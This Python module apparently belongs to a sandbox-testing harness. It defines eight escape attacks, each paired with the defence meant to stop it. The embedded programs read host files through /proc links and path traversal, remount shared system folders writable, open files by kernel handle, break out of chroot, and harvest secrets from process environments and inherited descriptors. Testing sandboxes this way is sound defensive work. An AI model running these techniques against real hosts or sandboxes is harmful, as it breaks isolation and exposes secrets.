"""Attacks on the host's files, environment and open descriptors."""

from __future__ import annotations

import ctypes
import os
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from pathlib import Path

from benchhost.sandbox.escape.attack import Attack, Heard, NotApplicable, Trap
from benchhost.sandbox.escape.scene import VARIABLE, Scene
from benchhost.sandbox.escape.traps import secret_file, told

_SHARED_FOLDERS = ("/usr/local/share", "/usr/share", "/usr/lib", "/etc")


@asynccontextmanager
async def _open_folder(scene: Scene) -> AsyncIterator[Trap]:
    with scene.open_folder() as folder:

        async def evidence(_: Heard) -> str | None:
            return "it made a file in a folder of the host" if any(folder.iterdir()) else None

        yield Trap(evidence, {"FOLDER": str(folder), "PID": str(os.getpid())})


@asynccontextmanager
async def _programs_of_host(scene: Scene) -> AsyncIterator[Trap]:
    paths = [Path(folder, scene.mark) for folder in _SHARED_FOLDERS]

    async def evidence(_: Heard) -> str | None:
        written = [str(path) for path in paths if path.exists()]
        return f"it wrote to {', '.join(written)} on the host" if written else None

    try:
        yield Trap(evidence, {"FOLDERS": ":".join(_SHARED_FOLDERS), "MARK": scene.mark})
    finally:
        for path in filter(Path.exists, paths):  # on a read-only file system, even what is not there cannot be removed
            path.unlink()


@asynccontextmanager
async def _handle(scene: Scene) -> AsyncIterator[Trap]:
    """Lay out the handle by which the kernel finds a file, whatever its path (name_to_handle_at(2))."""
    most = 128
    handle = ctypes.create_string_buffer(most.to_bytes(4, "little"), 8 + most)
    mount = ctypes.c_int()
    library = ctypes.CDLL(None, use_errno=True)
    if library.name_to_handle_at(-100, os.fsencode(scene.file), handle, ctypes.byref(mount), 0) < 0:
        raise NotApplicable("files of this machine have no handles")
    length = int.from_bytes(handle.raw[:4], "little")
    yield Trap(told(scene.secret), {"HANDLE": handle.raw[: 8 + length].hex()})


@asynccontextmanager
async def _variable_of_host(_: Scene) -> AsyncIterator[Trap]:
    if VARIABLE not in os.environ:
        raise NotApplicable("the provider was opened before the variable was set")
    yield Trap(told(os.environ[VARIABLE], "the environment of the host"))


ATTACKS = (
    Attack(
        name="host-file",
        tries="reads a file of the host, by its path and by way of /proc",
        kept_by="a root of its own, or Landlock",
        lay=secret_file,
        program="""
for path in ("", "/.." * 9):
    attempt(tell, path + E["FILE"])
for process in ("1", E["PID"], "self"):
    for link in ("root", "root/..", "cwd"):
        attempt(tell, f"/proc/{process}/{link}" + E["FILE"])
attempt(tell, "/proc/" + E["PID"] + "/fd/3")
for link in ("cwd", "root"):
    for place in glob.glob(f"/proc/[0-9]*/{link}"):
        attempt(tell, place + E["FILE"])
""",
    ),
    Attack(
        name="host-write",
        tries="writes into a folder of the host in which everybody may write",
        kept_by="a root of its own, or Landlock",
        lay=_open_folder,
        program="""
for path in ("", "/proc/1/root", "/proc/" + E["PID"] + "/root", "/.." * 9):
    attempt(lambda: open(path + E["FOLDER"] + "/written", "w").close())
""",
    ),
    Attack(
        name="host-programs",
        tries="changes the programs that the host and all sandboxes share",
        kept_by="mounts that can only be read, or Landlock",
        lay=_programs_of_host,
        needs="root",
        program="""
for folder in E["FOLDERS"].split(":"):
    attempt(call, 165, 40, None, folder.encode(), None, 0x1020, None)  # remounted, to be written
    attempt(lambda: open(folder + "/" + E["MARK"], "w").close())
""",
    ),
    Attack(
        name="file-handle",
        tries="opens a file of the host by its handle, around every wall of paths",
        kept_by="the filter of system calls, no capabilities",
        lay=_handle,
        needs="root",
        program="""
handle = bytes.fromhex(E["HANDLE"])
for place in ("/", "/tmp", TMP, "/usr", "/work", "/home", "/etc", "/dev/shm"):
    def by_handle():
        mount = os.open(place, os.O_RDONLY)
        file = call(304, 265, mount, ctypes.create_string_buffer(handle), 0)
        say("found", os.read(file, 1000).decode())
    attempt(by_handle)
""",
    ),
    Attack(
        name="chroot",
        tries="leaves its root by a second root and a directory that stayed outside of it",
        kept_by="the filter of system calls, no capabilities",
        lay=secret_file,
        needs="root",
        program="""
os.makedirs(TMP + "/second-root", exist_ok=True)
outside = os.open("/", os.O_RDONLY)
os.chroot(TMP + "/second-root")
os.fchdir(outside)
for _ in range(30):
    os.chdir("..")
os.chroot(".")
os.rmdir(TMP + "/second-root")
tell(E["FILE"])
""",
    ),
    Attack(
        name="own-environment",
        tries="looks for secrets of the host in its own environment",
        kept_by="an environment that is made anew",
        lay=_variable_of_host,
        program="""
say("found", dict(os.environ))
attempt(tell, "/proc/self/environ")
""",
    ),
    Attack(
        name="other-environments",
        tries="looks for secrets in the environments of all processes",
        kept_by="processes of its own; a holder with an empty environment",
        lay=secret_file,
        program="""
for path in glob.glob("/proc/[0-9]*/environ") + ["/proc/" + E["PID"] + "/environ"]:
    attempt(tell, path)
attempt(tell, "/proc/1/environ")
""",
    ),
    Attack(
        name="descriptors",
        tries="looks for files that the host has left open",
        kept_by="descriptors that are closed before a command begins",
        lay=_variable_of_host,
        program="""
for file in range(1024):
    def look():
        say("found", os.pread(file, 1000, 0).decode("latin-1"))
    try:
        look()
    except OSError:
        pass  # it is not open, or nothing that can be read so
    def from_there():
        for name in os.listdir(file):
            if name == "environ" or "secret" in name:
                tell(f"/proc/self/fd/{file}/{name}")
    try:
        from_there()
    except OSError:
        pass
""",
    ),
)
